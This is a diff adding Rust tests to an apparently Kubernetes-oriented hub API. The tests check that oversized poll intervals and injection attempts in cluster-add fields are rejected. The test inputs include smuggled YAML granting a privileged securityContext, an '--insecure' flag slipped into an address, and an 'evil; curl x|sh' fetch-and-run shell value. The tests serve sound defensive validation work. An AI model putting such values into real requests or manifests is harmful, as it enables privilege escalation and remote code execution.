@@ -1648,8 +1648,61 @@ async fn a_lifetime_past_what_a_clock_counts_is_a_clear_400() {
             "{json}"
         );
     }
+    let body = json!({"url": "/nonexistent-flotilla-test/r.git", "pollIntervalSeconds": u64::MAX})
+        .to_string();
+    let (status, json) = hub
+        .call("POST", "/api/v1/repositories", Some(&admin), &body)
+        .await;
+    assert_json_error(status, &json, 400, 3);
+    assert!(
+        json["message"]
+            .as_str()
+            .unwrap()
+            .contains("pollIntervalSeconds"),
+        "{json}"
+    );
+    assert!(hub.store.repos().unwrap().is_empty());
     // The hub still answers.
     let (status, _) = hub.call("GET", "/healthz", None, "").await;
     assert_eq!(status, 200);
+    hub.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn cluster_add_writes_no_yaml_or_shell_from_the_request_into_the_manifest() {
+    let hub = start().await;
+    let admin = hub.admin().await;
+    for (field, value) in [
+        ("hubAddress", "hub:7443\"\n  FLOTILLA_EXTRA: \"x"),
+        ("hubAddress", "hub:7443 --insecure"),
+        ("hubAddress", "hub"),
+        (
+            "image",
+            "evil\n          securityContext: {privileged: true}\n#",
+        ),
+        ("image", "evil; curl x|sh"),
+        ("image", ""),
+    ] {
+        let body = json!({"name": "east", field: value}).to_string();
+        let (status, json) = hub
+            .call("POST", "/api/v1/clusters", Some(&admin), &body)
+            .await;
+        assert_json_error(status, &json, 400, 3);
+        assert!(json["message"].as_str().unwrap().contains(field), "{json}");
+    }
+    // Nothing was registered; a plain request still works.
+    let (_, list) = hub.call("GET", "/api/v1/clusters", Some(&admin), "").await;
+    assert_eq!(list["items"], json!([]), "{list}");
+    let body = json!({"name": "east", "hubAddress": "hub.example:7443", "image": "registry.example:5000/flotilla/agent"}).to_string();
+    let (status, added) = hub
+        .call("POST", "/api/v1/clusters", Some(&admin), &body)
+        .await;
+    assert_eq!(status, 201, "{added}");
+    assert!(
+        added["manifest"]
+            .as_str()
+            .unwrap()
+            .contains("image: registry.example:5000/flotilla/agent:")
+    );
     hub.stop().await;
 }
